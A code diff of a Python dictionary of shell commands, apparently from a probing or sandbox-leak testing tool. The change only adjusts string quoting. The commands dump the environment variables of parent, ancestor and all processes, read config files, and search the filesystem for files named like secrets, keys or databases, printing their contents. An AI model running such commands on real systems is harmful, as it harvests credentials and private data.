@@ -58,7 +58,7 @@ SHELL_READS: dict[str, str] = {
     "env": "env",
     "parent-environ": "cat /proc/$PPID/environ; cat /proc/$PPID/cmdline",
     "ancestors": (
-        "p=$$; while [ \"$p\" -gt 1 ]; do echo \"== $p\"; cat /proc/$p/environ;"
+        'p=$$; while [ "$p" -gt 1 ]; do echo "== $p"; cat /proc/$p/environ;'
         " p=$(awk '{print $4}' /proc/$p/stat); done; cat /proc/1/environ"
     ),
     "all-processes": "for f in /proc/[0-9]*/environ; do cat $f 2>/dev/null; echo; done",
@@ -66,7 +66,7 @@ SHELL_READS: dict[str, str] = {
     "files": (
         "cat /proc/self/cwd/config/*.toml var/* var/.* 2>&1 | head -c 200000;"
         " find / -xdev \\( -name '*.db' -o -name '*secret*' -o -name '*.key' \\) -readable"
-        " -type f 2>/dev/null | head -50 | while read f; do head -c 65536 \"$f\"; done"
+        ' -type f 2>/dev/null | head -50 | while read f; do head -c 65536 "$f"; done'
     ),
     "identity": "id; cat /proc/self/status | grep -i -E 'uid|gid|cap'",
 }
